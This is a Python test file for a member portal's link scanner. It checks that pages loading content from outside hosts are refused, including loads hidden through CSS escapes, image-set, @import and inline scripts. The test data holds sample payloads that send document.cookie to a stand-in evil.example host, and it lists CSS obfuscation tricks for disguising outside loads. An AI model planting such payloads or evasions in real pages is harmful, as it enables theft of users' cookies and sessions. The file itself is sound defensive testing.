"""links: the fast scan finds every URL a scan from every position finds; CSS escapes, other
loading CSS functions and inline scripts that fetch are refused."""
from __future__ import annotations

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from memberportal.site import links

# The scan links.py used before it jumped from "=", "(" and "@": a name or url( tried at
# every position, consuming each value. Slow, simple, the reference.
_CSS = re.compile(r"""url\(\s*("[^"]*"|'[^']*'|[^)]*)\s*\)|@import\s+("[^"]*"|'[^']*')""",
                  re.I)


def every_position(page: str) -> list[str]:
    found = []
    for name, value in links._ATTR.findall(page):
        value = html.unescape(value.strip("\"'"))
        if name.lower() in ("srcset", "imagesrcset"):
            found += [part.strip().split()[0] for part in value.split(",") if part.strip()]
        else:
            found.append(value)
    for text in (page, html.unescape(page)):
        for url, imported in _CSS.findall(text):
            found.append((url or imported).strip().strip("\"'"))
    for tag in links._REFRESH.findall(page):
        found += links._REFRESH_URL.findall(html.unescape(tag))
    return list(dict.fromkeys(u.strip() for u in found))


PIECES = ['<img ', '<a ', ' ', '"', "'", '=', ' = ', '\n', '\u3000', '>', ',', ' 2x, ', 'x',
          'src', 'SRC', 'srcset', 'imagesrcset', 'href', 'xlink:href', 'data', 'cite', 'ſrc',
          'url(', 'URL(', ')', '@import ', '@IMPORT', 'style="', 'background:',
          'http://evil.example/', '//evil.example/x', '../../../x', 'a.png',
          '&quot;', '&#39;', '&amp;', '&#117;rl(', '&lpar;',
          '<meta http-equiv="refresh" content="0; url=http://x.example/">']


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=16).map("".join))
def test_fast_scan_finds_all_the_scan_from_every_position_finds(page):
    fast = links.references(page)
    assert set(every_position(page)) <= set(fast)


def test_a_value_hiding_a_reference_is_still_checked():
    # a scan that consumes values never looks inside src="…"; the fast one does
    page = '<p>see src="</p><img src=\'http://evil.example/x.png\'><p>"</p>'
    assert "http://evil.example/x.png" in links.refused(page, "m/T")
    assert "http://evil.example/x.png" not in every_position(page)


def test_spaces_around_equals_and_entities_are_read_like_a_browser():
    page = ('<img SRC = "//evil.example/a.png"><div style="background: url(&quot;'
            'http://evil.example/b.png&quot;)"></div><img srcset="ok.png 1x, ../../../c.png 2x">')
    assert links.refused(page, "m/T") == ["//evil.example/a.png", "../../../c.png",
                                          "http://evil.example/b.png"]


# --- what a browser loads that a plain url(...) search misses: CSS escapes and other CSS
# functions (read by a CSS tokenizer), and inline scripts that fetch ---------------------------

HIDDEN_IN_CSS = {
    "an escape in url()": ('<p style="background:url(\\68 ttp://evil.example/a.png)">x</p>',
                           "http://evil.example/a.png"),
    "an escaped url function": ('<style>p{background:\\75 rl(//evil.example/b.png)}</style>',
                                "//evil.example/b.png"),
    "entities in a style attribute": (
        '<p style="background:&#117;rl(&quot;https://evil.example/c&quot;)">x</p>',
        "https://evil.example/c"),
    "image-set": ('<style>p{background-image:image-set("https://evil.example/1x.png" 1x)}'
                  '</style>', "https://evil.example/1x.png"),
    "-webkit-image-set": ("<p style=\"background:-webkit-image-set('//evil.example/w.png' 1x)\">"
                          "x</p>", "//evil.example/w.png"),
    "@import with a string": ('<style>@import "https://evil.example/i.css";</style>',
                              "https://evil.example/i.css"),
    "@IMPORT escaped string": ("<style>@IMPORT '\\68ttps://evil.example/j.css';</style>",
                               "https://evil.example/j.css"),
    "src() in @font-face": ('<style>@font-face{font-family:x;src:src("https://evil.example/f")}'
                            '</style>', "https://evil.example/f"),
    "a comment splitting url": ("<style>p{background:/**/url(https://evil.example/k)}</style>",
                                "https://evil.example/k"),
    "an unclosed style": ("<style>p{background:u\\72l(https://evil.example/u)",
                          "https://evil.example/u"),
}


@pytest.mark.parametrize("case", HIDDEN_IN_CSS)
def test_css_that_loads_from_another_host_is_refused_however_it_is_written(case):
    page, url = HIDDEN_IN_CSS[case]
    assert url in links.refused(page, "m/T")


SCRIPTS = {
    "fetch": "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    "fetch, no address": "<script>fetch(atob('aHR0cHM6Ly9ldmls'))</script>",
    "XMLHttpRequest": "<script>var x=new XMLHttpRequest();x.open('GET',u)</script>",
    "dynamic import": "<script type=module>import('//evil.example/m.js')</script>",
    "WebSocket": "<script>new WebSocket('wss://evil.example/s')</script>",
    "sendBeacon": "<script>navigator.sendBeacon('/x', location.href)</script>",
    "an image by script": "<script>new Image().src='https://evil.example/p.gif'</script>",
    "an event handler": '<img src="a.png" onerror="fetch(\'//evil.example\')">',
    "an upper-case handler": '<img src="a.png" ONLOAD="navigator.sendBeacon(u)">',
    "a template literal": "<script>location=`https://evil.example/${document.cookie}`</script>",
}


@pytest.mark.parametrize("case", SCRIPTS)
def test_inline_scripts_that_reach_the_network_are_refused(case):
    assert links.refused(SCRIPTS[case], "m/T"), case


def test_what_stays_home_still_passes():
    page = ('<p style="--mp-tier: #3a5f8f; color: rgb(1 2 3); background:url(../../a.png)">x</p>'
            '<style>@font-face{src:url("../../f.woff2")} p{background:image-set("../../b.png" 1x)}'
            '</style><script type="module" src="../../assets/memberportal-qr.js"></script>'
            '<script>document.querySelectorAll("[data-qr]").forEach(e => e.hidden = false)'
            '</script><script type="application/json">{"base": "https://x.example/"}</script>'
            '<p>Tap to fetch your code once; import your points (10 of them).</p>')
    assert links.refused(page, "m/T") == []
